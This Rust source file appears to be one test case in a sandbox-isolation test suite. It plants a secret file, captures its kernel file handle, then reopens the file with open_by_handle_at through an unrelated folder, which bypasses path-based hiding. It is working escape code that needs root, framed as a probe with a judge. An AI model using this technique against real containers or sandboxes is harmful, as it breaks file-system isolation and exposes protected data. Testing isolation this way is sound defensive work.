//! S11: opens a file by its handle, without any path.

use std::io;

use crate::attack::{Attack, Judge};
use crate::attacks::kernel::sys;
use crate::attacks::{proof, raw::c, target};
use crate::needs;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "S11",
    name: "open-by-handle",
    what: "opens a hidden file by its inode number through any folder of the same file system",
    prepare,
    attack,
    needs: &[&needs::ROOT],
    ..Attack::ROW
};

/// `struct file_handle` with the longest identifier.
const SIZE: usize = 8 + 128;

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let (path, judge) = stage.secret("handle-secret")?;
    let mut handle = [0u8; SIZE];
    handle[0] = 128;
    let mut mount = 0i32;
    sys!(SYS_name_to_handle_at, libc::AT_FDCWD, &c(&path.to_string_lossy()), &mut handle, &mut mount, 0)?;
    stage.arg(handle.iter().map(|byte| format!("{byte:02x}")).collect::<String>());
    Ok(judge)
}

fn attack(args: &[String]) -> io::Result<()> {
    let mut handle = [0u8; SIZE];
    let digits = proof::arg(args, 0)?.as_bytes().chunks(2);
    for (byte, pair) in handle.iter_mut().zip(digits) {
        *byte = u8::from_str_radix(&String::from_utf8_lossy(pair), 16).map_err(io::Error::other)?;
    }
    let folder = sys!(SYS_openat, libc::AT_FDCWD, c".", libc::O_RDONLY)?;
    target::print_all(sys!(SYS_open_by_handle_at, folder, &mut handle, libc::O_RDONLY)?)
}
